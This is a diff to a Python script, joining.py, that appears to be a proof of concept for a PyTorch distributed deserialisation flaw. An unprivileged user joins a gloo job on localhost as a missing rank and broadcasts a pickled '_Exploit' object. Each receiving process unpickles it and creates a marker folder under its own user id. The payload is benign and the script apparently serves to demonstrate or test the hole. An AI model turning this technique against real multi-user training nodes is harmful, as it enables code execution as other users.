@@ -1,7 +1,7 @@
 """Another user of the node, who takes the place of a rank that has not arrived: sends a hostile object to the others.
 
-Usage: joining.py PORT MARKER. Imports torch as the user who starts it, and then becomes user 65534, who owns nothing.
-The object makes a folder MARKER.UID for the user id of each process that unpickles it.
+Usage: joining.py PORT MARKER LIMIT_S. Imports torch as the user who starts it, and then becomes user 65534, who owns
+nothing. The object makes a folder MARKER.UID for the user id of each process that unpickles it.
 """
 
 from __future__ import annotations
@@ -16,8 +16,6 @@ NOBODY = 65534
 
 
 class _Exploit:
-    """Unpickling this makes a folder."""
-
     def __init__(self, marker: str) -> None:
         self.marker = marker
 
@@ -26,14 +24,13 @@ class _Exploit:
 
 
 def main() -> None:
-    """Join as rank 1 of two, as a rank of the job would, and gather objects."""
-    port, marker = sys.argv[1:]
+    port, marker, limit_s = sys.argv[1:]
     os.setgroups([])
     os.setresgid(NOBODY, NOBODY, NOBODY)
     os.setresuid(NOBODY, NOBODY, NOBODY)
     place = {"MASTER_ADDR": "127.0.0.1", "MASTER_PORT": port, "RANK": "1", "WORLD_SIZE": "2"}
     os.environ.update(place, TORCHELASTIC_USE_AGENT_STORE="True", TORCHELASTIC_RESTART_COUNT="0")
-    distributed.init_process_group("gloo", timeout=timedelta(seconds=10))
+    distributed.init_process_group("gloo", timeout=timedelta(seconds=float(limit_s)))
     distributed.all_gather_object([None, None], _Exploit(marker))
 
 
